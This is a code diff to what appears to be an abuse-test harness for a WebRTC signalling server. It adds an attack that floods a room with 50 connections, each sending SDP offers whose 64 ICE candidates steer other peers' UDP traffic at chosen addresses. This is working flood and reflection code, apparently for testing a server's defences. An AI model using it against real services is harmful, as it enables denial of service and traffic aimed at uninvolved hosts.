@@ -74,6 +74,29 @@ function frameHead(length: number): Uint8Array {
   return bytes;
 }
 
+/** A text frame of any length, masked with zeros. */
+async function sendText(connection: Deno.TcpConn, lines: string): Promise<void> {
+  const payload = encoder.encode(lines);
+  await send(connection, frameHead(payload.length));
+  await send(connection, payload);
+}
+
+/** An offer with as many candidates as were ever taken, all on this machine. */
+function offerToMany(): string {
+  const candidates = Array.from(
+    { length: 64 },
+    (_, index) =>
+      `a=candidate:${index} 1 udp ${2113937151 - index} 127.0.0.1 ${50_000 + index} typ host\r\n`,
+  );
+  return "v=0\r\no=- 1 2 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\na=group:BUNDLE 0\r\n" +
+    "m=application 9 UDP/DTLS/SCTP webrtc-datachannel\r\nc=IN IP4 0.0.0.0\r\na=mid:0\r\n" +
+    "a=ice-ufrag:abcd\r\na=ice-pwd:abcdefghijklmnopqrstuvwx\r\na=setup:actpass\r\n" +
+    `a=fingerprint:sha-256 ${"AB:".repeat(31)}AB\r\na=sctp-port:5000\r\n${candidates.join("")}`;
+}
+
+/** A new connection of each member's, as often as a node takes one. */
+const OFFER_EVERY_MS = 1_000;
+
 const inRoom = () => `room=attack-${crypto.randomUUID()}&peer_id=mallory`;
 
 /** A room with 6 MB in it, which whoever opens the connection asks for. */
@@ -142,6 +165,18 @@ export const ATTACKS: readonly Attack[] = [
       const pair = [0x81, 0x82, 0, 0, 0, 0, 123, 125, 0x82, 0x82, 0, 0, 0, 0, 1, 2];
       const frames = new Uint8Array(Array.from({ length: 4_000 }, () => pair).flat());
       while (!signal.aborted) await send(connection, frames);
+    }),
+  },
+  {
+    name: "offers of 50 members that aim UDP at others",
+    run: flood(50, async (connection, signal) => {
+      await upgrade(connection, `${inRoom()}&token=${crypto.randomUUID()}&protocol=1`);
+      const offer = { type: "offer", sdp: offerToMany() };
+      while (!signal.aborted) {
+        const payload = { link: crypto.randomUUID().replaceAll("-", ""), signal: offer };
+        await sendText(connection, JSON.stringify({ type: "node_signal", payload }));
+        await new Promise((resolve) => setTimeout(resolve, OFFER_EVERY_MS));
+      }
     }),
   },
   {
